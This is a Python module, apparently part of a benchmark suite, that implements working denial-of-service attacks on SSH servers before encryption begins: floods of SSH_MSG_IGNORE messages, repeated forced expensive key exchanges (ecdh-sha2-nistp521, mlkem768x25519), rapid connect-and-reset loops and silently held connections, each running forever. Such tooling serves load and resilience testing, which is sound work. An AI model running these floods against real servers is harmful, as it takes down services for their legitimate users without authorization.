"""
Attacks on ssh that need no cipher: what comes before the first keys.
"""

from __future__ import annotations

import errno
import secrets
import select
import socket
import struct
import time
from typing import NoReturn

from cryptography.hazmat.primitives.asymmetric import ec, ed25519, x25519
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from benchmarks.attacks._done import Done

#: Connections at once of the attacks that fill all that there are.
MANY = 15

#: Connections at once of the one that only holds them.
SILENT = 16

#: Seconds from the end of a connection to the next one in its place.
PAUSE = 0.01

VERSION = b"SSH-2.0-attacker\r\n"

#: An SSH_MSG_IGNORE without content, not encrypted: RFC 4253, sections 6 and 11.2.
IGNORE = struct.pack(">IBBI", 12, 6, 2, 0) + bytes(6)

KEXINIT = 20
KEX_INIT = 30

#: Key exchanges, from that which costs a server most.
EXCHANGES = (b"ecdh-sha2-nistp521", b"mlkem768x25519-sha256", b"curve25519-sha256")


def _string(data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + data


def _packet(payload: bytes) -> bytes:
    padding = 8 - (5 + len(payload)) % 8
    padding += 8 if padding < 4 else 0
    return struct.pack(">IB", 1 + len(payload) + padding, padding) + payload + bytes(padding)


def publicKey() -> bytes:
    """
    Return a public key without a private half, as a client offers it.
    """
    point = ed25519.Ed25519PrivateKey.generate().public_key().public_bytes_raw()
    return _string(b"ssh-ed25519") + _string(point)


def _publicKey(exchange: bytes) -> bytes:
    point = x25519.X25519PrivateKey.generate().public_key().public_bytes_raw()
    if exchange == b"ecdh-sha2-nistp521":
        key = ec.generate_private_key(ec.SECP521R1()).public_key()
        return key.public_bytes(Encoding.X962, PublicFormat.UncompressedPoint)
    if exchange == b"mlkem768x25519-sha256":
        # Twisted itself needs a release of cryptography that has it, for this.
        from cryptography.hazmat.primitives.asymmetric import mlkem  # noqa: PLC0415

        key768 = mlkem.MLKEM768PrivateKey.generate().public_key()
        return key768.public_bytes_raw() + point
    return point


def _beginning(exchange: bytes) -> bytes:
    """
    Return the messages that make a server exchange keys.
    """
    ciphers = b"aes256-ctr,aes128-ctr"
    macs = b"hmac-sha2-256-etm@openssh.com,hmac-sha2-256"
    lists = (exchange, b"ssh-ed25519", ciphers, ciphers, macs, macs, b"none", b"none", b"", b"")
    names = b"".join(map(_string, lists))
    begin = bytes([KEXINIT]) + secrets.token_bytes(16) + names + bytes(5)
    return _packet(begin) + _packet(bytes([KEX_INIT]) + _string(_publicKey(exchange)))


class Flood:
    """
    Connections, each of which is opened again when it ends.

    @param what: what the end of a connection is called in the count.
    """

    def __init__(self, done: Done, address: tuple[str, int], count: int, what: str) -> None:
        self.done = done
        self._address = address
        self._what = what
        self._epoll = select.epoll()
        self._socks: dict[int, socket.socket] = {}
        # When to open the next ones.
        self._due = [0.0] * count

    def run(self) -> NoReturn:
        """
        Go on for ever.
        """
        while True:
            self.turn()

    def turn(self) -> None:
        """
        Open the connections that are due, and take the events of a moment.
        """
        now = time.monotonic()
        while self._due and self._due[0] <= now:
            self._due.pop(0)
            self._open()
        for fd, event in self._epoll.poll(PAUSE, 64):
            self._event(self._socks[fd], event)

    def _open(self) -> None:
        sock = socket.socket()
        sock.setblocking(False)
        # A reset leaves no port behind that can't be used for a minute.
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        if sock.connect_ex(self._address) not in {0, errno.EINPROGRESS}:
            sock.close()
            self._due.append(time.monotonic() + PAUSE)
            return
        self._socks[sock.fileno()] = sock
        self._epoll.register(sock, self.events)
        self.opened(sock)

    #: What is waited for.
    events = select.EPOLLIN

    def opened(self, sock: socket.socket) -> None:
        """
        Begin a connection.
        """

    def readable(self, sock: socket.socket, data: bytes) -> bool:
        """
        Take bytes of the server.

        @return: whether to go on.
        """
        return True

    def writable(self, sock: socket.socket) -> None:
        """
        There is room for more.
        """

    def _event(self, sock: socket.socket, event: int) -> None:
        try:
            if event & (select.EPOLLIN | select.EPOLLHUP | select.EPOLLERR):
                data = sock.recv(65536)
                if not data or not self.readable(sock, data):
                    raise ConnectionError("over")
            if event & select.EPOLLOUT:
                self.writable(sock)
        except BlockingIOError:
            return
        except OSError:
            self.done.happened(self._what)
            del self._socks[sock.fileno()]
            self.forget(sock)
            sock.close()
            self._due.append(time.monotonic() + PAUSE)

    def forget(self, sock: socket.socket) -> None:
        """
        Handle the end of a connection.
        """


class Ignore(Flood):
    """
    Messages that mean nothing, as fast as they are taken.
    """

    events = select.EPOLLIN | select.EPOLLOUT
    _some = IGNORE * 4096

    def __init__(self, *arguments: object) -> None:
        super().__init__(*arguments)  # type: ignore[arg-type]  # those of Flood
        self._begun: set[int] = set()

    def writable(self, sock: socket.socket) -> None:
        """
        See L{Flood.writable}.
        """
        if sock.fileno() not in self._begun:
            self._begun.add(sock.fileno())
            sock.send(VERSION)
        # Whole messages, as long as the socket takes whole pieces.
        self.done.happened("messages", sock.send(self._some) // len(IGNORE))

    def forget(self, sock: socket.socket) -> None:
        """
        See L{Flood.forget}.
        """
        self._begun.discard(sock.fileno())


class Exchange(Flood):
    """
    Key exchanges, by that algorithm of those that are offered which costs most, and
    without ever asking for what follows.
    """

    def __init__(self, *arguments: object) -> None:
        super().__init__(*arguments)  # type: ignore[arg-type]  # those of Flood
        self._messages: dict[bytes, bytes] = {}
        self._heard: dict[int, bytes | None] = {}

    def opened(self, sock: socket.socket) -> None:
        """
        See L{Flood.opened}.
        """
        self._heard[sock.fileno()] = b""

    def readable(self, sock: socket.socket, data: bytes) -> bool:
        """
        See L{Flood.readable}.
        """
        heard = self._heard[sock.fileno()]
        if heard is None:
            self.done.happened("exchanges")
            return False
        heard += data
        self._heard[sock.fileno()] = heard
        if b"ext-info-s" in heard and b"none" in heard:
            exchange = next(name for name in EXCHANGES if name in heard)
            if exchange not in self._messages:
                self._messages[exchange] = VERSION + _beginning(exchange)
            sock.send(self._messages[exchange])
            self._heard[sock.fileno()] = None
        return True


class Connect(Flood):
    """
    Connections that are reset as soon as the server says something.
    """

    def readable(self, sock: socket.socket, data: bytes) -> bool:
        """
        See L{Flood.readable}.
        """
        return False


def ignore(done: Done, host: str, port: str) -> NoReturn:
    """
    See L{Ignore}.
    """
    Ignore(done, (host, int(port)), MANY, "connections").run()


def exchange(done: Done, host: str, port: str) -> NoReturn:
    """
    See L{Exchange}.
    """
    Exchange(done, (host, int(port)), MANY, "connections").run()


def connect(done: Done, host: str, port: str) -> NoReturn:
    """
    See L{Connect}.
    """
    Connect(done, (host, int(port)), MANY, "connections").run()


def silent(done: Done, host: str, port: str) -> NoReturn:
    """
    Hold connections without ever saying anything.
    """
    Flood(done, (host, int(port)), SILENT, "connections").run()


def busy(done: Done) -> NoReturn:
    """
    Use the processor, without an attack.
    """
    while True:
        done.happened("loops", sum(1 for _ in range(10_000)) // 10_000)
